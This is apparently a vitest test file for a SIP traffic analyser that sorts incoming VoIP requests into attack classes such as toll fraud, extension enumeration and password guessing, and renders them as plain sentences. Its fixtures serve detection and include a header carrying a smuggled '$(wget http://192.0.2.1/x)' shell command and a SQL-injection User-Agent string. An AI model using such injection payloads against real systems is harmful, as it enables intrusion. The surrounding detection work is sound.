import { describe as group, expect, it } from 'vitest'
import { analyse, type Analysis } from '../../../src/sip/analysis.ts'
import { describe } from '../../../src/sip/describe.ts'
import type { AttackClass } from '../../../src/sip/attack/class.ts'
import { bytes, recording, request } from '../fixtures.ts'

const received = (raw: Uint8Array): Analysis => analyse({ raw, direction: 'in' })
const withHeaders = (headers: Record<string, string>, start = 'REGISTER sip:h SIP/2.0'): Analysis =>
  received(request({ start, headers }))

group('the class of a request', () => {
  const digest = { Authorization: 'Digest username="101", realm="r", nonce="n", uri="sip:h", response="f"' }
  const scanner = { 'User-Agent': 'friendly-scanner' }
  it.each<[AttackClass, string, Record<string, string>]>([
    ['options-sweep', 'OPTIONS sip:100@h SIP/2.0', {}],
    ['login', 'REGISTER sip:h SIP/2.0', {}],
    ['login', 'REGISTER sip:h SIP/2.0', digest],
    ['ordinary', 'SUBSCRIBE sip:101@h SIP/2.0', {}],
    ['login', 'SUBSCRIBE sip:101@h SIP/2.0', digest],
    ['call', 'INVITE sip:101@h SIP/2.0', {}],
    ['call', 'INVITE sip:101@h SIP/2.0', digest],
    ['call', 'INVITE sip:5551234@h SIP/2.0', {}],
    ['call', 'INVITE sip:0046850780296@provider.example SIP/2.0', {}],
    ['call', 'INVITE sip:+46850780296@provider.example SIP/2.0', digest],
    ['call', 'INVITE sip:0850780296@192.0.2.1 SIP/2.0', {}],
    ['signalling', 'INVITE sip:0046850780296@192.0.2.1 SIP/2.0', { To: '<sip:0046850780296@b>;tag=ours' }],
    ['toll-fraud', 'INVITE sip:0046850780296@192.0.2.1 SIP/2.0', {}],
    ['toll-fraud', 'INVITE sip:46850780296@192.0.2.1:5060;transport=udp SIP/2.0', {}],
    ['toll-fraud', 'INVITE sip:01146850780296@[2001:db8::1] SIP/2.0', {}],
    ['toll-fraud', 'INVITE sip:0046850780296@provider.example SIP/2.0', scanner],
    ['extension-enumeration', 'REGISTER sip:h SIP/2.0', scanner],
    ['extension-enumeration', 'INVITE sip:101@h SIP/2.0', scanner],
    ['extension-enumeration', 'SUBSCRIBE sip:101@h SIP/2.0', scanner],
    ['password-guessing', 'REGISTER sip:h SIP/2.0', { ...scanner, ...digest }],
    ['password-guessing', 'REGISTER sip:h SIP/2.0', { ...digest, 'Proxy-Authorization': digest.Authorization }],
    ['toll-fraud', 'INVITE sip:900046850780296@h SIP/2.0', {}],
    ['toll-fraud', 'INVITE sip:900046850780296@h SIP/2.0', digest],
    ['ordinary', 'OPTIONS sip:101@h;rinstance=5b2 SIP/2.0', {}],
    ['options-sweep', 'OPTIONS sip:101@h;rinstance=5b2 SIP/2.0', scanner],
    ['ordinary', 'MESSAGE sip:101@h SIP/2.0', {}],
    ['method-enumeration', 'MESSAGE sip:101@h SIP/2.0', scanner],
    ['method-enumeration', 'UPDATE sip:101@h SIP/2.0', {}],
    ['flood', 'OPTIONS sip:101@h SIP/2.0', { Via: 'SIP/2.0/UDP 192.0.2.7:9;branch=z9hG4bK.1' }],
    ['digest-leak', 'OPTIONS sip:101@h SIP/2.0', { 'Proxy-Authenticate': 'Digest realm="x", nonce="y"' }],
    ['method-enumeration', 'BREW sip:101@h SIP/2.0', {}],
    ['signalling', 'ACK sip:101@h SIP/2.0', {}],
    ['signalling', 'BYE sip:101@h SIP/2.0', {}],
    ['signalling', 'INFO sip:101@h SIP/2.0', { To: '<sip:a@b>;tag=ours' }],
    ['research-scan', 'OPTIONS sip:101@h SIP/2.0', { 'User-Agent': 'censys.io research' }],
    ['login', 'REGISTER sip:h SIP/2.0', { 'User-Agent': 'research' }],
    ['toll-fraud', 'INVITE sip:900046850780296@h SIP/2.0', { 'User-Agent': 'Shodan' }],
    ['malformed', 'OPTIONS sip:101@h SIP/2.0', { From: '' }],
    ['malformed', 'OPTIONS sip:101@h SIP/2.0', { 'Content-Length': 'ten' }],
    ['malformed', 'OPTIONS sip:101@h SIP/9.0', {}],
  ])('%s: %s', (attack, start, headers) => expect(withHeaders(headers, start).class).toBe(attack))

  it("svwar's first, impossible extension is no telephone number", () => {
    const From = '"2521180689"<sip:2521180689@h>;tag=3235323131383036383901333038313537333132'
    const event = withHeaders({ From }, 'INVITE sip:2521180689@h SIP/2.0')
    expect(event).toMatchObject({ class: 'extension-enumeration' })
    expect(event.number).toBeUndefined()
  })
})

group('an answer', () => {
  it('is signalling with its CSeq method, as is all we send', () => {
    const answer = request({ start: 'SIP/2.0 401 Unauthorized', headers: { CSeq: '7 REGISTER', Server: 'x y' } })
    expect(received(answer)).toMatchObject({
      kind: 'response',
      status: 401,
      method: 'REGISTER',
      userAgent: 'x y',
      class: 'signalling',
    })
    expect(analyse({ raw: request(), direction: 'out' })).toMatchObject({ class: 'signalling', tool: 'unknown' })
  })

  it('is a digest leak when it challenges the end of a call, but not when it challenges a login', () => {
    const challenge = { 'WWW-Authenticate': 'Digest realm="x", nonce="y"' }
    const answer = (cseq: string, headers: Record<string, string>): string =>
      received(request({ start: 'SIP/2.0 401 Unauthorized', headers: { CSeq: cseq, ...headers } })).class
    expect(answer('2 BYE', challenge)).toBe('digest-leak')
    expect(answer('2 BYE', {})).toBe('signalling')
    expect(answer('1 REGISTER', challenge)).toBe('signalling')
  })
})

group('the reason of a class', () => {
  it('says why, in plain words, where the class alone does not', () => {
    expect(received(request()).reason).toBe('asks what a server can do')
    expect(withHeaders({ 'User-Agent': "x' or 1=1--" }).reason).toBe(
      'User-Agent: a condition that is always true, a quote that nothing closes',
    )
    expect(withHeaders({ 'X-Odd': '$(wget http://192.0.2.1/x)' }).reason).toBe('another header: a shell command')
  })
})

group('an analysis', () => {
  it('names users once each, and not the number called', () => {
    const event = withHeaders(
      {
        From: '<sip:101@h>;tag=1',
        To: '<sip:0046850780296@192.0.2.1>',
        Authorization: 'Digest username="101"',
        'Proxy-Authorization': 'Digest username="admin"',
      },
      'INVITE sip:0046850780296@192.0.2.1 SIP/2.0',
    )
    expect(event).toMatchObject({
      users: ['101', 'admin'],
      fromUser: '101',
      requestUser: '0046850780296',
      requestUri: 'sip:0046850780296@192.0.2.1',
      severity: 'high',
    })
  })

  it('bounds every text', () => {
    const long = 'x'.repeat(5000)
    const event = withHeaders(
      { From: `<sip:${long}@h>;tag=1`, 'User-Agent': long, 'Call-ID': long },
      `${long} sip:${long}@h SIP/2.0`,
    )
    for (const text of [
      event.method,
      event.callId,
      event.userAgent,
      event.fromUser,
      event.requestUser,
      event.requestUri,
    ]) {
      expect(text).toHaveLength(512)
    }
  })

  it('tells the gravest fault', () => {
    const raw = request({ headers: { Subject: '\0', 'Content-Length': 'x' } })
    expect(received(raw).fault).toBe('Content-Length is no number')
    expect(received(request()).fault).toBeUndefined()
  })
})

group('a sentence', () => {
  const digest = 'Digest username="101"'
  it.each([
    ['INVITE to +46850780296 (prefix 9011)', request({ start: 'INVITE sip:901146850780296@h SIP/2.0' })],
    ['INVITE to +46850780296', request({ start: 'INVITE sip:+46850780296@h SIP/2.0' })],
    ['INVITE to 5551234', request({ start: 'INVITE sip:5551234@h SIP/2.0' })],
    [
      'REGISTER as alice with a password',
      request({ start: 'REGISTER sip:h SIP/2.0', headers: { Authorization: digest } }),
    ],
    ['REGISTER as alice', request({ start: 'REGISTER sip:h SIP/2.0' })],
    [
      'REGISTER for extension bob',
      request({ start: 'REGISTER sip:h SIP/2.0', headers: { 'User-Agent': 'friendly-scanner' } }),
    ],
    ['INVITE to an extension as alice', request({ start: 'INVITE sip:bob@h SIP/2.0' })],
    ['Media that belongs to no call', Uint8Array.of(0x80, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 1, 0)],
    ['OPTIONS, asking who is there', request()],
    ['401 to REGISTER', request({ start: 'SIP/2.0 401 No', headers: { CSeq: '1 REGISTER' } })],
    ['OPTIONS, malformed: There is no To header', request({ headers: { To: '' } })],
    ['Something other than SIP', bytes('GET / HTTP/1.1\r\n\r\n')],
    ['Keep-alive', bytes('\r\n\r\n')],
    ['ACK as alice', request({ start: 'ACK sip:h SIP/2.0' })],
  ])('%s', (sentence, raw) => expect(describe(received(raw))).toBe(sentence))

  it('names the password svcrack says it tries', () => {
    const [, tried] = recording('sip-tools/svcrack.jsonl')
    expect(describe(received(tried?.raw ?? bytes('')))).toBe('REGISTER as 101 with the password 101')
  })
})
